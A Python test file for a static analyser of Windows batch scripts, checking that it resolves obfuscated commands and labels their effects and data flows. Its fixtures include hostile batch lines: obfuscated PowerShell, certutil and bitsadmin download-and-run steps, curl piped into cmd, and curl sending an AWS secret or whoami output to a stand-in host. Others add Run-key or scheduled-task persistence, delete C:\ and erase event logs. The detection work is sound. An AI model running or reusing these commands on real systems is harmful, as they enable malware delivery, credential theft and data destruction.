"""What a batch file's commands are, and what is known of their arguments."""

from __future__ import annotations

import pytest
from script_facts import argument, calls, facts, flows, uses

ARGUMENTS = [
    ("powershell -nop -enc AAAA", "powershell", "code", "AAAA"),
    ('set a=power\nset "b=shell"\n%a%%b% -enc AAAA', "powershell", "code", "AAAA"),
    ("p^ow^ershell -c dir", "powershell", "code", "dir"),
    ("powershell -c ^\n dir", "powershell", "code", "dir"),
    ("set z=xdirx\ncmd /c %z:~1,3%", "cmd", "code", "dir"),
    ("set z=xdirx\ncmd /c %z:x=%", "cmd", "code", "dir"),
    ("setlocal enabledelayedexpansion\nset z=dir\ncmd /c !z!", "cmd", "code", "dir"),
    ("cu%nothing%rl http://a.invalid", "curl", "url", "http://a.invalid"),
    ("certutil -urlcache -f http://a.invalid %TEMP%\\x.exe", "certutil", "out", "~\\AppData\\Local\\Temp\\x.exe"),
    ('reg add HKCU\\x /v n /d "%APPDATA%\\u.exe" /f', "reg", "data", "~\\AppData\\Roaming\\u.exe"),
    ('schtasks /create /tn a /tr "c:\\x.exe"', "schtasks", "command", "c:\\x.exe"),
    ("if exist a (curl http://a.invalid) else del /q b", "del", "path", "b"),
    ("a & if x==y curl http://a.invalid", "curl", "url", "http://a.invalid"),
    ("for %%i in (a b) do del %%i", "del", "path", None),
    ("echo ZWNobyBoaQ== > a.txt\ncertutil -decode a.txt b.bat\nb.bat", "shell.exec", "code", ("echo hi", ("base64",))),
    ("echo dir>>x.bat\ncall x.bat", "shell.exec", "code", "dir\n"),
    ('start "" /b C:\\t\\x.exe', "start", "path", "C:\\t\\x.exe"),
]  # fmt: skip


@pytest.mark.parametrize(("source", "call", "key", "expected"), ARGUMENTS)
def test_arguments_are_known_by_their_part(source: str, call: str, key: str, expected: object) -> None:
    assert expected in argument("batch", source, call, key)


def test_comments_labels_and_echoes_are_no_calls() -> None:
    assert calls("batch", "@echo off\nrem curl x\n:: curl y\n:label\necho curl z\ngoto label\nexit /b 0\n") == []


def test_a_condition_guards_its_command() -> None:
    scope = facts("batch", "if exist a curl http://a.invalid").scopes[0]
    curl = next(node for node in scope.nodes if node.op == "call" and node.name == "curl")

    assert scope.guards[curl.guard].kind == "if"


USES = [
    ("rd /s /q C:\\", "fs.delete"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d b", "registry.write"),
    ("schtasks /create /tn a /tr b", "persist.schedule"),
    ("wevtutil cl System", "log.erase"),
    ("attrib +h +s x", "fs.hide"),
    ("shutdown /s", "host.shutdown"),
    ("netsh wlan show profiles", "fs.read"),
]


@pytest.mark.parametrize(("source", "expected"), USES)
def test_the_map_knows_what_commands_can_do(source: str, expected: str) -> None:
    assert expected in {use.split()[0] for use in uses("batch", source)}


FLOWS = [
    ("curl http://a.invalid | cmd", "network.http > code.eval"),
    ("for /f %%i in ('whoami') do curl http://a.invalid/%%i", "host.identity > network.http"),
    ("curl -d %AWS_SECRET_ACCESS_KEY% http://a.invalid", "env.read env-secret > network.http"),
    ("bitsadmin /transfer x http://a.invalid %TEMP%\\x.exe & %TEMP%\\x.exe", "network.http > code.eval"),
]


@pytest.mark.parametrize(("source", "expected"), FLOWS)
def test_values_travel_through_pipes_variables_and_files(source: str, expected: str) -> None:
    found = flows("batch", source)
    assert {expected} & found, found
